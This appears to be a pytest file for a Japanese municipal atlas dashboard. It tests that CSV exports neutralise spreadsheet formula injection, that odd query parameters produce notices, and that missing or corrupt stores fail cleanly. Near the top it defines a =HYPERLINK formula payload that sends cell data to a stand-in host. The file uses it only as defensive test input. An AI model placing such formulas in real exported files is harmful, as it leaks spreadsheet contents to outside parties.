"""Hostile input at the edges: formula cells in CSV, odd URLs, a missing or corrupt store."""

from __future__ import annotations

import csv
import io
import json
import sqlite3

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from dashboard.__main__ import main
from dashboard.errors import AtlasError
from dashboard.store import Store
from dashboard.views.atlas import AtlasData
from dashboard.views.exports import files as exports
from dashboard.views.exports.csvsafe import csv_bytes, neutralise
from dashboard.views.state import ViewState

from .conftest import REPO

HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def _rows(payload: bytes) -> list[list[str]]:
    assert payload.startswith(b"\xef\xbb\xbf")  # BOM kept
    return list(csv.reader(io.StringIO(payload.decode("utf-8-sig"))))


def test_every_risky_cell_is_text():
    frame = pd.DataFrame({"name": [HOSTILE, "+81-3", "-1+1", "@SUM(A1)", "\tx", "\r=1", "普通", None],
                          "n": [1, -2, 3, 4, 5, 6, 7, 8]})
    rows = _rows(csv_bytes(frame))
    names = [r[0] for r in rows[1:]]
    assert names == ["'" + HOSTILE, "'+81-3", "'-1+1", "'@SUM(A1)", "'\tx", "'\r=1", "普通", ""]
    assert [r[1] for r in rows[1:]][:2] == ["1", "-2"]  # numbers stay numbers
    assert list(neutralise(pd.DataFrame({"=x": [1]})).columns) == ["'=x"]


@pytest.fixture(scope="module")
def hostile_data(store) -> AtlasData:
    """The national data with a municipality and a body renamed to a formula."""
    data = AtlasData.from_store(store)
    data.municipalities.loc[data.municipalities["code"] == "20212", "name"] = HOSTILE
    data.bodies.loc[data.bodies["body_id"] == "kitaalps-jiritsu", "name"] = HOSTILE
    data.memberships.loc[data.memberships["member_code"] == "20212", "member_name"] = HOSTILE
    data.projects.loc[data.projects["body_id"] == "kitaalps-jiritsu", "name"] = "-" + HOSTILE
    return data


def test_map_csv_with_a_formula_named_municipality_opens_as_text(hostile_data):
    table = exports.municipalities_table(hostile_data, ViewState(prefs=("20",)))
    rows = _rows(exports.csv_bytes(table))
    header = rows[0]
    omachi = next(r for r in rows if r[0] == "20212")
    assert omachi[header.index("name")] == "'" + HOSTILE
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
    # a body name inside the memberships text is not at the cell's start: harmless, left as is
    assert HOSTILE in omachi[header.index("bodies")]


def test_body_csvs_neutralise_a_formula_named_body_and_member(hostile_data):
    files = exports.body_csvs(hostile_data, "kitaalps-jiritsu")
    assert any(cell == "'" + HOSTILE for r in _rows(files["members"]) for cell in r)
    assert any(cell == "'-" + HOSTILE for r in _rows(files["projects"]) for cell in r)
    for payload in files.values():
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for r in _rows(payload) for cell in r)


def test_analyze_csv_is_neutralised_too(hostile_data, built_store, monkeypatch, capsys):
    monkeypatch.setenv("ATLAS_STORE", str(built_store))
    monkeypatch.setattr(AtlasData, "from_store", classmethod(lambda cls, store: hostile_data))
    assert main(["analyze", "coverage", "--prefecture", "20", "--by", "municipality"]) == 0
    out = capsys.readouterr().out
    assert "'=HYPERLINK(" in out
    assert not any(cell.startswith(("=", "+", "@")) for row in csv.reader(io.StringIO(out)) for cell in row)


LONG = "x" * 100_000


@pytest.mark.parametrize("params", [
    {"muni": LONG},
    {"pref": "20," + "9" * 5000, "scheme": "," * 3000},
    {"measure": "change:" + "2" * 400 + ":2045", "lang": "ｊａ"},
    {"body": "\x00\x1b[31m", "classes": "%FF%FE", "wards": "１"},
    {"b" * 3000: "1", "tiles": "🙂"},
])
def test_any_query_parameter_is_a_notice_not_a_traceback(built_store, monkeypatch, params):
    monkeypatch.setenv("ATLAS_STORE", str(built_store))
    at = AppTest.from_file(str(REPO / "app.py"), default_timeout=120)
    for k, v in params.items():
        at.query_params[k] = v
    at.run()
    assert not at.exception
    notices = [w.value for w in at.warning]
    # one short notice per hostile parameter, each naming it (a long name by its first characters)
    assert len(notices) == len(params) and all(len(n) < 400 for n in notices), notices
    for name, notice in zip(params, notices):
        assert name[:40] in notice, (name[:40], notice)
    assert at.title[0].value == "連携アトラス"  # the page still draws


@pytest.mark.parametrize("command", [["export", "--prefecture", "20", "--format", "csv", "--out", "{tmp}"],
                                     ["analyze", "hubs"], ["serve", "--server.port", "1"], ["serve", "--workers", "2"]])
@pytest.mark.parametrize("store_kind", ["missing", "corrupt"])
def test_cli_with_a_missing_or_corrupt_store_exits_non_zero(command, store_kind, built_store, tmp_path, monkeypatch, capsys):
    path = tmp_path / "atlas.gpkg"
    if store_kind == "corrupt":
        path.write_bytes(built_store.read_bytes()[:4096])
    monkeypatch.setenv("ATLAS_STORE", str(path))
    code = main([c.replace("{tmp}", str(tmp_path / "out")) for c in command])
    err = capsys.readouterr().err
    assert code == 1
    assert "Traceback" not in err and err.strip().count("\n") == 0, err
    assert "atlas.gpkg" in err


def test_a_store_of_another_format_is_refused_in_one_line(store_copy, monkeypatch, capsys):
    with sqlite3.connect(store_copy) as con:
        con.execute("update meta set value = ? where key = 'store_format'", (json.dumps(0),))
    monkeypatch.setenv("ATLAS_STORE", str(store_copy))
    assert main(["analyze", "hubs"]) == 1
    assert "rebuild it" in capsys.readouterr().err
    with pytest.raises(AtlasError, match="rebuild"):
        Store(store_copy)
